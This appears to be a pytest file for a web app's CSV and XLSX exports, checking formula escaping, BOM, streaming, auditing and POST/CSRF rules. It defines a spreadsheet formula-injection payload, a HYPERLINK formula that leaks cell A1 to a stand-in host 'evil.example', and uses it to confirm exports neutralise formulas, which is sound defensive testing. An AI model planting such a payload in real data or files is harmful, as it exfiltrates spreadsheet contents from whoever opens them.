"""Exports: CSV with BOM, streamed, formula-safe; XLSX with text cells; audited; POST only."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from app.audit import AuditEvent
from app.extensions import db
from app.readiness.exports import csv_lines, xlsx_bytes
from tests.conftest import csrf_token_from, login_as

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_csv_lines_neutralise_formulas_and_start_with_a_bom():
    lines = list(csv_lines(["Name", "Score"], [[EVIL, -3], ["+1", 2.5], ["@SUM(A1)", None]]))
    assert lines[0].startswith("\ufeffName,Score")
    rows = list(csv.reader(io.StringIO("".join(lines).lstrip("\ufeff"))))
    assert rows[1] == ["'" + EVIL, "-3"]  # a negative number stays a number
    assert rows[2] == ["'+1", "2.5"]
    assert rows[3] == ["'@SUM(A1)", ""]
    assert all(line.endswith("\r\n") for line in lines)


def _xlsx_cells(data: bytes) -> tuple[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        strings = (
            archive.read("xl/sharedStrings.xml").decode()
            if ("xl/sharedStrings.xml" in archive.namelist())
            else ""
        )
    return sheet, strings


def test_xlsx_writes_text_never_formulas():
    data = xlsx_bytes("people", ["Name", "Score"], [[EVIL, 3], ["=1+1", 1.5]])
    sheet, strings = _xlsx_cells(data)
    assert "<f>" not in sheet
    assert "HYPERLINK" in strings and "=1+1" in strings
    assert "<v>3</v>" in sheet


def _export(client, scene, url):
    page = client.get(f"/readiness/campaigns/{scene.campaign_id}").get_data(as_text=True)
    return client.post(url, data={"csrf_token": csrf_token_from(page)})


def test_a_user_named_like_a_formula_comes_out_literal(client, scene):
    cat = scene.people["cat"]
    cat.first_name = EVIL
    db.session.commit()
    login_as(client, scene.network_manager)
    url = f"/readiness/campaigns/{scene.campaign_id}/export/overdue.csv"
    response = _export(client, scene, url)
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert "'" + EVIL + " Muster" in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    xlsx = _export(client, scene, url.replace(".csv", ".xlsx"))
    assert xlsx.status_code == 200
    sheet, strings = _xlsx_cells(xlsx.get_data())
    assert "<f>" not in sheet and "HYPERLINK" in strings


@pytest.mark.parametrize("table", ["units", "people", "overdue", "heatmap", "trend", "scores"])
def test_every_table_exports_in_both_formats(client, scene, table):
    login_as(client, scene.network_manager)
    base = f"/readiness/campaigns/{scene.campaign_id}/export/{table}"
    unit = f"?unit={scene.org.branch_a1.id}" if table == "people" else ""
    csv_response = _export(client, scene, f"{base}.csv{unit}")
    assert csv_response.status_code == 200
    text = csv_response.get_data().decode("utf-8-sig")
    assert len(text.splitlines()) >= 1
    xlsx_response = _export(client, scene, f"{base}.xlsx{unit}")
    assert xlsx_response.status_code == 200
    assert zipfile.is_zipfile(io.BytesIO(xlsx_response.get_data()))


def test_units_export_has_the_page_numbers(client, scene):
    login_as(client, scene.network_manager)
    response = _export(
        client,
        scene,
        f"/readiness/campaigns/{scene.campaign_id}/export/units.csv?unit={scene.org.region_a.id}",
    )
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["a1"][3:7] == ["3", "2", "66.7", "1"]
    assert by_code["a2"][3:5] == ["2", "0"]


def test_exports_are_audited_and_need_post_and_csrf(client, scene):
    login_as(client, scene.network_manager)
    url = f"/readiness/campaigns/{scene.campaign_id}/export/units.csv"
    assert client.get(url).status_code == 405
    assert client.post(url).status_code == 400
    _export(client, scene, url)
    events = db.session.query(AuditEvent).filter_by(action="readiness.exported").all()
    assert len(events) == 1 and events[0].details["table"] == "units"


def test_unknown_table_or_format_is_404(client, scene):
    login_as(client, scene.network_manager)
    for url in ("export/secrets.csv", "export/units.pdf"):
        response = _export(client, scene, f"/readiness/campaigns/{scene.campaign_id}/{url}")
        assert response.status_code == 404
